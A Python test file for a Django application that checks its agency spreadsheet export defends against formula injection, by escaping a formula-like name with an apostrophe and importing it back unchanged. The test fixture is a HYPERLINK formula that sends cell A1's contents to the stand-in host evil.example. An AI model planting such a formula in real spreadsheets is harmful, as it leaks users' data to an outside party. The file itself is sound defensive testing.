"""An agency named like a formula is exported as text with an apostrophe and imports back
unchanged (issue 9 §4, OWASP CSV/formula injection)."""

from __future__ import annotations

import io

from django.urls import reverse
from python_calamine import CalamineWorkbook

from jiguan.access.models import Region
from jiguan.conftest import Cast, make_credit_code
from jiguan.core.imports.pipeline import apply_job, create_job, validate_job
from jiguan.core.models import ImportStatus
from jiguan.orgs.models import Agency

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def _export(cast: Cast) -> bytes:
    response = cast.client("province_admin").get(reverse("orgs:agency_export"))
    assert response.status_code == 200
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def _formula_agency() -> Agency:
    return Agency.objects.create(name=NAME, region=Region.objects.get(code="330106"),
                                 level="county", credit_code=make_credit_code("330106", 77),
                                 authorized_headcount=3, actual_headcount=2)


def test_an_agency_named_like_a_formula_is_exported_as_text_with_an_apostrophe(
        cast: Cast) -> None:
    _formula_agency()
    rows = CalamineWorkbook.from_filelike(io.BytesIO(_export(cast))).get_sheet_by_index(0)
    names = [row[0] for row in rows.to_python()[3:]]
    assert "'" + NAME in names
    assert NAME not in names


def test_an_export_with_a_formula_like_name_imports_back_unchanged(cast: Cast) -> None:
    agency = _formula_agency()
    job = create_job(kind="orgs.agency", filename="export.xlsx", data=_export(cast),
                     user=cast.province_admin)
    job = validate_job(job.pk)
    assert job.status == ImportStatus.VALID, job.errors or job.message
    job = apply_job(job.pk, cast.province_admin.pk)
    assert job.status == ImportStatus.DONE, job.errors or job.message
    assert job.summary == {"created": 0, "updated": 0, "unchanged": 5}
    agency.refresh_from_db()
    assert agency.name == NAME
